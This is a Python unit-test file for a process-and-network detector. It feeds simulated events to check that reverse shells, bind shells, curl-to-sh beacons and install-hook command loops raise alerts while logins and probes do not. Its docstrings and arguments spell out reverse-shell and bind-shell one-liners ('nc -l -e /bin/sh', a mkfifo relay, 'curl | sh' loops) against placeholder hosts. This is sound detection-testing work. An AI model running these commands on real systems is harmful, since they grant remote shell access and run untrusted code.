"""The stdio graph (agent/detect/stdio.py) and its detectors on hand-built event streams: relays, loops, bind
shells, downloads and beacons alert once with the right address; logins, shared pipes and probes do not."""

from __future__ import annotations

from typing import Any

from agent.events import Accept, Exec, FdOpen
from tests.helpers.events import LOCAL, REMOTE
from tests.unit.test_detectors import World, check_contract

TTY = {"stdio": ("chr", "chr", "chr"), "stdio_ids": ("pty:0", "pty:0", "pty:0"), "stdio_peers": ("", "", "")}


def ends(*ids: str, peers: tuple[str, ...] = ("", "", "")) -> dict[str, Any]:
    kinds = tuple(
        "fifo" if i.startswith("fifo") else "socket" if i.startswith(("unix", "sock")) else "chr" for i in ids
    )
    return {"stdio": kinds, "stdio_ids": ids, "stdio_peers": peers}


def connect(w: World, pid: int, t: float, *, sock: str, daddr: str = REMOTE, dport: int = 4444) -> None:
    w.connect(pid, daddr, dport, t, laddr=LOCAL, lport=40000 + pid, sock_id=sock)


def c2(w: World) -> list[dict[str, Any]]:
    return [a for a in w.alerts if {"reverse_shell", "bind_shell", "c2_beacon"} & set(a["chainwatch"]["signals"])]


def mkfifo_relay(w: World, *, nc: str = "/usr/bin/nc.openbsd") -> None:
    """cat /tmp/f | sh -i 2>&1 | nc H P > /tmp/f, as the kernel reports it."""
    w.spawn(200, None, "/usr/bin/bash", ("bash", "-c", "relay"), t=0, **TTY)
    w.spawn(201, 200, "/usr/bin/cat", ("cat", "/tmp/f"), t=0.1, **ends("pty:0", "fifo:9:1", "pty:0"))
    w.spawn(202, 200, "/bin/sh", ("/bin/sh", "-i"), t=0.1, **ends("fifo:9:1", "fifo:9:2", "fifo:9:2"))
    w.spawn(203, 200, nc, ("nc", "H", "4444"), t=0.1, **ends("fifo:9:2", "fifo:30:7", "pty:0"))
    w.feed(FdOpen(**w.header(201, 0.2), fd=3, kind="fifo", end_id="fifo:30:7", access="r"))
    connect(w, 203, 0.3, sock="sock:55")


def test_mkfifo_relay_is_one_reverse_shell_with_nc_destination() -> None:
    """The classic FIFO relay: one reverse-shell alert on sh, destination nc's peer."""
    w = World()
    mkfifo_relay(w)
    hits = c2(w)
    assert len(hits) == 1
    check_contract(hits[0])
    assert hits[0]["destination"] == {"ip": REMOTE, "port": 4444}
    assert hits[0]["process"]["pid"] == 202 and hits[0]["network"]["direction"] == "egress"


def test_relay_through_a_shared_pipe_is_not_a_relay() -> None:
    """A pipe held by many processes (a build's output pipe) is never a relay hop, even when a process that
    writes it holds a connection and the shell's output goes to another."""
    w = World()
    w.spawn(200, None, "/usr/bin/bash", ("bash", "-c", "x"), t=0, **TTY)
    for pid in range(300, 312):  # twelve compile jobs writing the same log pipe
        w.spawn(pid, 200, "/usr/bin/cc", ("cc",), t=0.05, **ends("null", "fifo:9:8", "fifo:9:8"))
    w.spawn(202, 200, "/bin/sh", ("/bin/sh",), t=0.1, **ends("fifo:9:8", "fifo:9:9", "fifo:9:9"))
    w.spawn(203, 200, "/usr/bin/curl", ("curl", "x"), t=0.1, **ends("null", "fifo:9:8", "fifo:9:8"))
    w.spawn(204, 200, "/usr/bin/nc.openbsd", ("nc", "H", "1"), t=0.1, **ends("fifo:9:9", "null", "null"))
    connect(w, 203, 0.3, sock="sock:56")
    connect(w, 204, 0.3, sock="sock:58", dport=4445)
    assert c2(w) == []


def test_node_socketpair_spawn_before_connect() -> None:
    """node spawns sh on socketpairs, then connects: the connect completes the relay (one alert on sh)."""
    w = World()
    w.spawn(200, None, "/usr/bin/node", ("node", "-e", "net+child_process"), t=0, **TTY)
    w.spawn(
        201,
        200,
        "/bin/sh",
        ("/bin/sh",),
        t=0.1,
        **ends("unix:11", "unix:13", "unix:15", peers=("unix:12", "unix:14", "unix:16")),
    )
    assert c2(w) == []  # nothing yet: node holds no connection
    connect(w, 200, 0.2, sock="sock:57")
    hits = c2(w)
    assert len(hits) == 1 and hits[0]["process"]["pid"] == 201
    assert hits[0]["destination"] == {"ip": REMOTE, "port": 4444}


def test_sshd_pty_login_is_quiet() -> None:
    """sshd accepts a remote connection and gives the user's shell a pty: a login, not a bind shell."""
    w = World()
    w.spawn(100, None, "/usr/sbin/sshd", ("sshd", "-D"), t=0, **TTY)
    w.fork(101, 100, t=1)
    w.feed(
        Accept(
            **w.header(100, 1.0),
            fd=4,
            family="ipv4",
            transport="tcp",
            saddr=REMOTE,
            sport=50000,
            lport=22,
            laddr=LOCAL,
            sock_id="sock:60",
        )
    )
    w.spawn(
        102,
        101,
        "/usr/sbin/sshd",
        ("sshd", "-R"),
        t=1.1,
        **ends("sock:60", "sock:60", "null"),
        stdio_socket_fd=0,
        stdio_family="ipv4",
        stdio_transport="tcp",
        stdio_daddr=REMOTE,
        stdio_dport=50000,
        stdio_laddr=LOCAL,
        stdio_lport=22,
    )
    w.feed(FdOpen(**w.header(102, 1.2), fd=7, kind="ptmx", end_id="ptm:3", access="rw"))
    w.spawn(103, 102, "/usr/bin/bash", ("-bash",), t=1.3, **ends("pty:3", "pty:3", "pty:3"))
    assert w.alerts == []


def test_php_shell_exec_loop_one_alert_for_the_loop() -> None:
    """php -r holding a connection runs sh -c commands whose output comes back to it: one alert on php."""
    w = World()
    w.spawn(200, None, "/usr/bin/php8.2", ("php", "-r", "loop"), t=0, **TTY)
    connect(w, 200, 0.1, sock="sock:61")
    for i, pid in enumerate((201, 202, 203)):
        w.spawn(pid, 200, "/bin/sh", ("sh", "-c", "id"), t=0.2 + i / 10, **ends("pty:0", f"fifo:9:{20 + i}", "pty:0"))
    hits = c2(w)
    assert len(hits) == 1 and hits[0]["process"]["pid"] == 200
    assert hits[0]["destination"] == {"ip": REMOTE, "port": 4444}


def test_installed_tool_holding_a_connection_running_commands_is_quiet() -> None:
    """A build tool (not inline code, not from /tmp) that downloads and then runs sh -c with captured output."""
    w = World()
    w.spawn(200, None, "/usr/bin/python3.11", ("python3", "/usr/lib/tool/build.py"), t=0, **TTY)
    connect(w, 200, 0.1, sock="sock:62")
    w.spawn(201, 200, "/bin/sh", ("sh", "-c", "make"), t=0.2, **ends("null", "fifo:9:30", "fifo:9:31"))
    assert c2(w) == []


def test_bind_shell_direction() -> None:
    """nc -l -e sh: the accepted socket on sh's stdio; source is the peer, destination the listening port."""
    w = World()
    w.spawn(200, None, "/usr/bin/nc.traditional", ("nc", "-l", "-p", "4444", "-e", "/bin/sh"), t=0, **TTY)
    w.feed(
        Accept(
            **w.header(200, 0.5),
            fd=4,
            family="ipv4",
            transport="tcp",
            saddr=REMOTE,
            sport=51000,
            lport=4444,
            laddr=LOCAL,
            sock_id="sock:70",
        )
    )
    w.feed(
        Exec(
            **w.header(200, 0.6),
            filename="/bin/sh",
            args=("/bin/sh",),
            **ends("sock:70", "sock:70", "sock:70"),
            stdio_socket_fd=0,
            stdio_family="ipv4",
            stdio_transport="tcp",
            stdio_daddr=REMOTE,
            stdio_dport=51000,
            stdio_laddr=LOCAL,
            stdio_lport=4444,
        )
    )
    hits = c2(w)
    assert len(hits) == 1
    assert hits[0]["destination"] == {"ip": LOCAL, "port": 4444}
    assert hits[0]["source"] == {"ip": REMOTE, "port": 51000}
    assert hits[0]["network"]["direction"] == "ingress"


def test_curl_pipe_sh_is_a_notice_and_a_loop_of_it_a_beacon() -> None:
    """curl | sh once: a low download notice; the same creator again against one destination: a beacon."""
    w = World()
    w.spawn(
        200, None, "/usr/bin/bash", ("bash", "-c", "while :; do curl -s http://H/c | sh; sleep 1; done"), t=0, **TTY
    )
    for i in range(2):
        t = 1 + i * 2
        w.spawn(
            300 + i,
            200,
            "/usr/bin/curl",
            ("curl", "-s", "http://H/c"),
            t=t,
            **ends("pty:0", f"fifo:9:{40 + i}", "pty:0"),
        )
        w.spawn(310 + i, 200, "/bin/sh", ("sh",), t=t, **ends(f"fifo:9:{40 + i}", "pty:0", "pty:0"))
        connect(w, 300 + i, t + 0.1, sock=f"sock:{80 + i}", dport=80)
        if i == 0:
            assert [a["event"]["severity"] for a in w.alerts] == [21]
            assert "download_execute" in w.alerts[0]["chainwatch"]["signals"]
    beacons = [a for a in w.alerts if "c2_beacon" in a["chainwatch"]["signals"]]
    assert len(beacons) == 1 and beacons[0]["event"]["severity"] == 73
    assert beacons[0]["destination"] == {"ip": REMOTE, "port": 80}
    assert len({a["chainwatch"]["incident"]["id"] for a in w.alerts}) == 1


def test_port_probe_is_only_a_notice() -> None:
    """`echo > /dev/tcp/db/5432`: the shell's connect is a notice; its redirection onto fd 1 is nothing."""
    w = World()
    w.bash()
    w.connect(200, REMOTE, 5432, t=1)
    w.dup(200, 1, t=1.01, dport=5432)
    assert [a["event"]["severity"] for a in w.alerts] == [21]
    text = (w.alerts[0]["rule"]["name"] + w.alerts[0]["event"]["reason"]).lower()
    assert "reverse shell" not in text and "c2" not in text


def test_install_hook_loop_needs_a_shell_child() -> None:
    """In a package install, a hook script holding a connection that runs the binary it downloaded is quiet; the
    same script running shell commands whose output comes back to it is a command loop."""
    w = World()
    w.spawn(100, None, "/usr/bin/npm", ("npm", "install"), t=0, **TTY)
    w.spawn(101, 100, "/bin/sh", ("sh", "-c", "node install.js"), t=0.1, **TTY)
    w.spawn(102, 101, "/usr/bin/node", ("node", "install.js"), t=0.2, **TTY)
    connect(w, 102, 0.3, sock="sock:90")
    w.spawn(
        103,
        102,
        "/work/node_modules/esbuild/bin/esbuild",
        ("esbuild", "--version"),
        t=0.4,
        **ends("null", "fifo:9:60", "fifo:9:61"),
    )
    assert c2(w) == []
    w.spawn(104, 102, "/bin/sh", ("/bin/sh", "-c", "id"), t=0.5, **ends("null", "fifo:9:62", "fifo:9:63"))
    hits = c2(w)
    assert len(hits) == 1 and hits[0]["process"]["pid"] == 102
    assert hits[0]["supply_chain"]["context"] == "package_install_npm"
